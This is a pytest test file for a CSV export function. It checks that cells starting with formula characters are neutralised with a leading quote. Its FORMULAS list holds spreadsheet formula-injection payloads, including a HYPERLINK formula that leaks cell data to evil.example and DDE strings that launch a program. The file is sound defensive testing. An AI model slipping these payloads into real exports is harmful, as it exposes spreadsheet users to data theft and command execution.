"""CSV exports: text that a spreadsheet would run as a formula is quoted; figures stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kith.csvexport import ROWS_PER_CHUNK, csv_chunks, csv_text

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_text_beginning_like_a_formula_gets_a_leading_quote_and_keeps_its_value(
    formula: str,
) -> None:
    [header, row] = parsed(csv_text(("email", "reason"), [(formula, "malformed_email")]))

    assert header == ["email", "reason"]
    assert row == ["'" + formula, "malformed_email"]


def test_numbers_stay_numbers_even_negative_while_the_same_text_is_quoted() -> None:
    text = csv_text(("label", "value"), [("change", -3), ("ratio", -2.5), ("typed", "-3")])

    assert text.splitlines() == ["label,value", "change,-3", "ratio,-2.5", "typed,'-3"]


@given(st.text().filter(lambda cell: not cell.startswith(("=", "+", "-", "@", "\t", "\r"))))
def test_any_other_text_comes_back_exactly_as_it_went_in(cell: str) -> None:
    [_, row] = parsed(csv_text(("cell",), [(cell,)]))

    assert row == [cell]


def test_a_long_export_comes_in_pieces_that_join_into_the_whole() -> None:
    rows = [(f"member {n}", n) for n in range(2 * ROWS_PER_CHUNK + 1)]

    pieces = list(csv_chunks(("name", "n"), rows))

    assert len(pieces) == 3
    assert parsed("".join(pieces))[1:] == [[name, str(n)] for name, n in rows]
